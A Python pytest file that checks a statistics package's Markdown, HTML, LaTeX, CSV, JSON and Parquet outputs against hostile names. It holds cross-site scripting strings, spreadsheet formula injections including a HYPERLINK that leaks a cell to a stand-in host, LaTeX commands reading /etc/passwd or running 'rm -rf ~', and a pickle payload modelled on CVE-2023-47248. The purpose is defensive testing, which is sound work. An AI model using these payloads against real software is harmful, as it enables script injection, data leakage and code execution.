"""Hostile names through every output that leaves the package (issue 30, deliverables 4-6).

Markdown rendered by a Markdown-to-HTML converter keeps no raw tag and shows each name as it is;
the runner's results file opens in a spreadsheet without a formula and resumes with the same names;
JSON passes a strict parser; LaTeX and HTML escape; nothing reads a file with a pickle-running pyarrow.
"""

import csv
import dataclasses
import html
import json
import re
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import algocompare as ac
from algocompare._results import TestResult, jsonable
from algocompare._tables import frame_to_html, frame_to_latex, frame_to_markdown, markdown_escape
from algocompare.experiment import _results_file as results_file
from algocompare.experiment import run_experiment
from algocompare.experiment._results_file import format_record, read_log, read_recorded
from algocompare.report._paper import control_table, paper_html, paper_markdown, summary_table

#: Names a hostile (or unlucky) user gives algorithms and instances.
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    '=HYPERLINK("http://x.invalid/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=quoted",
    "a|b",
    "`code`",
    "*bold* and _italic_",
    "[link](javascript:alert(3))",
    "~~struck~~",
    "$x^2$",
    "back\\slash\\|",
    "&lt;entity&gt;",
    "cma_es",
]
#: Markdown's rendering of a table: the only tags it may hold.
TABLE_TAGS = {"table", "thead", "tbody", "tr", "th", "td", "strong", "p"}


def _scores(names, rows=10, seed=0):
    rng = np.random.default_rng(seed)
    return pd.DataFrame(rng.normal(size=(rows, len(names))) + np.arange(len(names)), columns=names)


class _Cells(HTMLParser):
    """The tags of an HTML text and the text of its table cells (entities resolved)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.cells, self._cell = set(), [], None

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        if tag in ("td", "th"):
            self._cell = ""

    def handle_endtag(self, tag):
        if tag in ("td", "th") and self._cell is not None:
            self.cells.append(self._cell)
            self._cell = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell += data


def _render(markdown_text):
    markdown_it = pytest.importorskip("markdown_it", reason="markdown-it-py (docs extra) renders the Markdown")
    # CommonMark passes raw HTML through (html=True), as notebooks and documentation sites do
    rendered = markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown_text)
    parser = _Cells()
    parser.feed(rendered)
    return rendered, parser


def _assert_names_shown_not_run(markdown_text, names):
    rendered, parsed = _render(markdown_text)
    assert parsed.tags <= TABLE_TAGS, (parsed.tags - TABLE_TAGS, rendered)
    assert "<script" not in rendered and "<img" not in rendered and "<a " not in rendered
    for name in names:
        assert name in parsed.cells, (name, parsed.cells)


def test_markdown_escape_renders_every_hostile_name_as_itself():
    for name in HOSTILE:
        rendered, parsed = _render(f"| name |\n|---|\n| {markdown_escape(name)} |")
        assert parsed.cells == ["name", name], rendered
        assert parsed.tags <= TABLE_TAGS


def test_markdown_of_results_shows_hostile_names_and_runs_no_html():
    data = _scores(HOSTILE)
    control = ac.posthoc(data, control=HOSTILE[0])
    _assert_names_shown_not_run(control.to_markdown(), HOSTILE)  # every algorithm in a row against the control
    _assert_names_shown_not_run(ac.posthoc(data).to_markdown(), HOSTILE)  # every algorithm in some pair
    _assert_names_shown_not_run(ac.friedman(data).to_markdown(), [])


def test_frame_to_markdown_escapes_index_headers_cells_and_keeps_bold():
    frame = pd.DataFrame({"<b>col</b>": HOSTILE, "pvalue": np.linspace(0.001, 0.5, len(HOSTILE))},
                         index=pd.Index(HOSTILE, name="algorithm"))
    bold = np.zeros(frame.shape, bool)
    bold[:3, 1] = True
    text = frame_to_markdown(frame, bold=bold)
    rendered, parsed = _render(text)
    assert parsed.tags <= TABLE_TAGS and "strong" in parsed.tags
    assert "<b>col</b>" in parsed.cells
    assert parsed.cells.count("<script>alert(1)</script>") == 2  # the index and the column
    assert rendered.count("<strong>") == 3
    # a line break inside a name stays inside its row
    broken = frame_to_markdown(pd.DataFrame({"x": [1.5]}, index=["two\nlines"]))
    assert len(broken.splitlines()) == 3 and "two lines" in _render(broken)[1].cells


def test_paper_markdown_escapes_caption_note_and_names():
    from algocompare.analysis import run_analysis

    data = ac.Results.from_wide(_scores(HOSTILE))
    sections = run_analysis(data)
    for table in (control_table(ac.posthoc(data, control=HOSTILE[0])), summary_table(data, sections)):
        table = dataclasses.replace(table, caption="<img src=x onerror=alert(4)> *caption*",
                                    note=table.note + " <script>alert(5)</script> _note_")
        rendered, parsed = _render(paper_markdown(table))
        assert parsed.tags <= TABLE_TAGS and "<script" not in rendered and "<img" not in rendered
        assert "<strong>&lt;img src=x onerror=alert(4)&gt; *caption*</strong>" in rendered
        assert "&lt;script&gt;alert(5)&lt;/script&gt; _note_" in rendered
        assert set(HOSTILE[1:]) <= set(parsed.cells)  # the control is named in the note
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered


def test_latex_and_html_escape_hostile_names():
    data = _scores(HOSTILE + ["\\input{/etc/passwd}", "\\write18{rm -rf ~}", "100% & #1 {x}"])
    result = ac.posthoc(data, control=HOSTILE[0])
    for text in (result.to_html(), paper_html(control_table(result)), frame_to_html(data.head(2))):
        parsed = _Cells()
        parsed.feed(text)
        assert parsed.tags <= {"table", "thead", "tbody", "tr", "th", "td", "b", "caption", "p", "sup"}, parsed.tags
        assert "<script" not in text and "<img" not in text
    tex = result.to_latex() + frame_to_latex(data.head(2), width="page")
    assert "\\input{" not in tex and "\\write18{" not in tex
    assert "\\input" not in tex.replace("\\textbackslash{}input", "")
    assert "100\\% \\& \\#1 \\{x\\}" in tex
    # a caption is escaped; a label key, written as given, is refused when it would run a command
    assert "\\caption{\\textbackslash{}input\\{x\\}}" in result.to_latex(caption="\\input{x}")
    for label in ("x}\\input{/etc/passwd}", "a%b", "tab:\nx"):
        with pytest.raises(ValueError, match="label="):
            result.to_latex(label=label)
    assert "\\label{tab:post_hoc-1.a}" in result.to_latex(label="tab:post_hoc-1.a")


def test_results_file_opens_in_a_spreadsheet_without_formulas_and_resumes_with_the_same_names(tmp_path):
    algorithms = {name: _algorithm(offset) for name, offset in zip(HOSTILE[2:7], (-30.0, -20.0, 0.0, 5.0, 10.0), strict=False)}
    instances = {label: i for i, label in enumerate(["=1+1", "-x", "@me", "+1 instance", "'q", "plain", "-3",
                                                     "+4e2", "=A1", "@@"])}
    settings = {"d": 1.0, "se_max": 1.0, "n0": 4, "nmax": 20, "power": 0.8, "rng": 3}
    path = tmp_path / "runs.csv"
    with ThreadPoolExecutor(1) as pool:
        full = run_experiment(instances, algorithms, executor=pool, results_file=path, **settings)
    lines = path.read_text(encoding="utf-8").splitlines()
    # the fingerprint line (JSON holding every name) split at its commas as a spreadsheet would: no formula
    for cell in next(csv.reader([lines[0]])):
        assert cell[:1] not in ("=", "+", "-", "@") or re.fullmatch(r"-?[\d.e+-]+", cell), cell
    assert read_log(path).attrs["fingerprint"]["instances"][0][0] == "=1+1"
    rows = list(csv.reader(lines[1:]))
    header, records = rows[0], rows[1:]
    assert len(records) > 40
    negative = 0
    for record in records:
        for column, cell in zip(header, record, strict=False):
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # a spreadsheet reads it as a number, not as a formula
                negative += column == "value" and cell.startswith("-")
    assert negative > 0  # negative results stayed numbers
    assert {r[1] for r in records} == {"'" + name for name in algorithms}
    # as a spreadsheet would read it: every text cell that starts a formula is quoted
    frame = pd.read_csv(path, skiprows=1)
    assert (frame["value"] < 0).any() and frame["value"].dtype == float
    # the runner reads its own names back
    log = read_log(path)
    assert set(log["algorithm"]) == set(algorithms) and set(log["instance"]) <= set(instances)
    # cut the file as a kill would (half the records and a partial line), resume: same names, same results
    cut = len("\n".join(lines[:2 + len(records) // 2])) + 1
    path.write_bytes(path.read_bytes()[:cut + 15])
    with ThreadPoolExecutor(1) as pool:
        resumed = run_experiment(instances, algorithms, executor=pool, resume=path, results_file=path,
                                 **{**settings, "rng": None})
    pd.testing.assert_frame_equal(resumed.runs.to_long(), full.runs.to_long())
    assert list(resumed.runs.algorithms) == list(algorithms)
    assert set(read_log(path)["algorithm"]) == set(algorithms)


def test_parquet_results_file_keeps_hostile_names_as_they_are(tmp_path):
    pytest.importorskip("pyarrow")
    algorithms = {name: _algorithm(offset) for name, offset in zip(HOSTILE[2:5], (-30.0, -20.0, 0.0), strict=False)}
    path = tmp_path / "runs.parquet"
    with ThreadPoolExecutor(1) as pool:
        run_experiment(list(range(6)), algorithms, executor=pool, results_file=path, d=1.0, se_max=1.0, n0=4,
                       nmax=12, rng=3)
    assert set(pd.read_parquet(path)["algorithm"]) == set(algorithms)  # a typed column: no quote needed
    assert set(read_log(path)["algorithm"]) == set(algorithms)


def _algorithm(offset):
    def run(instance, rng):
        return float(rng.normal(offset + instance, 1.0))
    return run


def test_results_file_cells_round_trip_and_numbers_stay_numbers():
    row = ["=cmd", "'x", 0, 0, "error", "", 7, 0, 1, "-boom: =HYPERLINK(1)"]
    line = format_record(row)
    cells = next(csv.reader([line.decode().rsplit(",", 1)[0]]))
    assert cells[0] == "'=cmd" and cells[1] == "''x" and cells[9] == "'-boom: =HYPERLINK(1)"
    assert results_file._parse(line.rstrip(b"\n")) == [str(c) for c in row]
    for number in ("-1.5", "+2", "-3e-05", "-0", ".5"):
        assert results_file.neutralise(number) == number
    for text in ("-inf", "-nan", "-", "+", "@", "=", "-1.5x"):
        assert results_file.neutralise(text) == "'" + text and results_file.restore("'" + text) == text


def test_fingerprint_line_holds_no_formula_and_reads_back_the_same(tmp_path):
    from algocompare.experiment import _fingerprint as fingerprint

    study = {"format": fingerprint.FORMAT, "seed": "42", "package": "=cmd", "python": "+3",
             "algorithms": [["a", "=HYPERLINK(1)", {"-1+cmd": "@x"}], ["+y", "-2", {}]],
             "instances": [["=x,=cmd|' /C calc'!A0", "@1"]],
             "design": {"labels": "x,=cmd|' /C calc'!A0", "quote": 'say "=1+1", -2', "number": -1.5e-05}}
    path = tmp_path / "study.csv"
    log = results_file.RunLog(path, study)
    log.close(complete=True)
    first = path.read_text(encoding="utf-8").splitlines()[0]
    cells = next(csv.reader([first]))
    assert len(cells) >= 6
    for cell in cells:
        assert cell[:1] not in ("=", "+", "-", "@") or re.fullmatch(r"-?[\d.e+-]+[]}]*", cell), cell
    assert read_recorded(path).fingerprint == study


def _strict_json(text):
    def refuse(constant):
        raise ValueError(f"not JSON: {constant}")
    return json.loads(text, parse_constant=refuse)


def test_json_is_strict_with_null_for_nan_and_infinities():
    result = TestResult(method="<script>x</script>", statistic=float("nan"), pvalue=float("inf"))
    parsed = _strict_json(result.to_json())
    assert parsed["statistic"] is None and parsed["pvalue"] is None
    assert jsonable(pd.Series([1.0, np.nan, np.inf, -np.inf])) == {"0": 1.0, "1": None, "2": None, "3": None}
    assert jsonable([pd.NA, pd.NaT, np.float32("nan")]) == [None, None, None]
    data = _scores(HOSTILE)
    data.iloc[0, 0] = data.iloc[0, 1]  # a tie
    for res in (ac.posthoc(data, control=HOSTILE[0]), ac.posthoc(data), ac.friedman(data)):
        parsed = _strict_json(res.to_json())
        assert isinstance(parsed, dict)
    with pytest.raises(ValueError, match="not JSON"):  # the parser of these checks is strict
        _strict_json('{"x": NaN}')


def test_cli_json_of_hostile_names_passes_a_strict_parser(tmp_path, capsys):
    from algocompare.cli import main

    data = _scores(HOSTILE[:8], rows=12)
    data.insert(0, "instance", [f"=f{i}" for i in range(len(data))])
    path = tmp_path / "hostile.csv"
    data.to_csv(path, index=False)
    capsys.readouterr()
    assert main(["analyze", str(path), "--json"]) == 0
    parsed = _strict_json(capsys.readouterr().out)
    assert HOSTILE[0] in json.dumps(parsed, ensure_ascii=False)


@pytest.mark.parametrize("arguments", [
    ["analyze", "{path}", "--nan-policy", "keep", "--json"], ["analyze", "{path}", "--nan-policy", "omit", "--json"],
    ["consensus", "{path}", "--nan-policy", "omit", "--json"], ["datasets", "--json"],
    ["samplesize", "--d", "0.5", "--n-comparisons", "4", "--json"],
    ["power-curve", "--instances", "2", "--d-max", "1e-9", "--json"]])
def test_every_cli_json_passes_a_strict_parser(arguments, tmp_path, capsys):
    from algocompare.cli import main

    data = _scores(["<a>", "=b", "c|d", "e"], rows=12, seed=1)
    data.iloc[2, 1] = np.nan  # a missing cell
    data["e"] = 0.0  # a constant algorithm: ties, zero spreads
    path = tmp_path / "nan.csv"
    data.to_csv(path, index_label="instance")
    capsys.readouterr()
    assert main([a.format(path=path) for a in arguments]) == 0
    assert _strict_json(capsys.readouterr().out)


# -- no file that runs code when read -------------------------------------------------------------

def test_optional_readers_exclude_code_execution_versions():
    tomllib = pytest.importorskip("tomllib")
    project = tomllib.loads((Path(__file__).parents[1] / "pyproject.toml").read_text())["project"]
    pins = {}
    for requirement in [r for extra in project["optional-dependencies"].values() for r in extra]:
        match = re.fullmatch(r"([A-Za-z0-9_.\-\[\]]+)>=([\d.]+)", requirement)
        if match:
            pins.setdefault(match.group(1).split("[")[0], []).append(tuple(map(int, match.group(2).split("."))))
    assert min(pins["pyarrow"]) >= (14, 0, 1)  # CVE-2023-47248
    assert min(pins["openpyxl"]) >= (3, 1)
    assert min(pins["dask"]) >= (2021, 10)  # CVE-2021-42343 (distributed)


def test_parquet_is_refused_with_a_pyarrow_that_unpickles(tmp_path, monkeypatch):
    pyarrow = pytest.importorskip("pyarrow")
    path = tmp_path / "results.parquet"
    _scores(["A", "B"]).to_parquet(path)
    assert ac.read(path).n_algorithms == 2
    monkeypatch.setattr(pyarrow, "__version__", "13.0.0")
    with pytest.raises(ImportError, match=r"CVE-2023-47248.*pyarrow>=14\.0\.1"):
        ac.read(path)
    with pytest.raises(ImportError, match="CVE-2023-47248"):
        read_recorded(path)


class _Payload:
    """Unpickled, it creates the file ``marker`` (what CVE-2023-47248's payload would run)."""

    def __init__(self, marker):
        self.marker = str(marker)

    def __reduce__(self):
        return open, (self.marker, "w")


def test_a_parquet_file_carrying_a_pickle_runs_nothing_when_read(tmp_path):
    pyarrow = pytest.importorskip("pyarrow")
    import pickle

    import pyarrow.parquet as pq

    marker = tmp_path / "ran"
    hostile = pyarrow.field("B", pyarrow.float64(), metadata={
        b"ARROW:extension:name": b"arrow.py_extension_type",  # the type older pyarrow unpickled
        b"ARROW:extension:metadata": pickle.dumps(_Payload(marker))})
    table = pyarrow.table({"A": [1.0, 2.0, 3.0], "B": [1.5, 2.5, 0.5]})
    table = table.cast(pyarrow.schema([pyarrow.field("A", pyarrow.float64()), hostile]))
    path = tmp_path / "shared.parquet"
    pq.write_table(table.replace_schema_metadata({b"algocompare.study": b"{}"}), path)
    assert ac.read(path).n_algorithms == 2
    with pytest.raises(ValueError):  # not a study of this package; read, and nothing ran
        read_recorded(path)
    assert not marker.exists()
    pickle.loads(pickle.dumps(_Payload(marker)))  # the payload does run when unpickled
    assert marker.exists()


def test_nothing_the_package_reads_is_unpickled():
    """pickle/cloudpickle ``loads`` only on the pipes between the runner and its own workers."""
    package = Path(ac.__file__).parent
    loads = re.compile(r"\b(?:pickle\.loads?|cloudpickle\.loads?|read_pickle|np\.load|numpy\.load|joblib\.load|"
                       r"allow_pickle\s*=\s*True|PyExtensionType|dill\.loads?)\b")
    found = {str(p.relative_to(package)) for p in package.rglob("*.py") if loads.search(p.read_text(encoding="utf-8"))}
    assert found <= {"experiment/_workers.py"}, found


def test_html_of_results_escapes_hostile_names():
    text = ac.posthoc(_scores(HOSTILE[:3]), control=HOSTILE[0]).to_html()
    assert html.escape("<img src=x onerror=alert(2)>", quote=False) in text and "<img" not in text


def test_cli_rows_write_missing_values_as_null():
    # power-curve's JSON rows: a NaN in the curve becomes null, and strict parsers accept the output
    import json

    import numpy as np
    import pandas as pd

    from algocompare.cli._samplesize import _records

    rows = _records(pd.DataFrame({"d": [0.1, 0.2], "power": [0.5, np.nan]}))
    assert rows == [{"d": 0.1, "power": 0.5}, {"d": 0.2, "power": None}]
    json.dumps(rows, allow_nan=False)
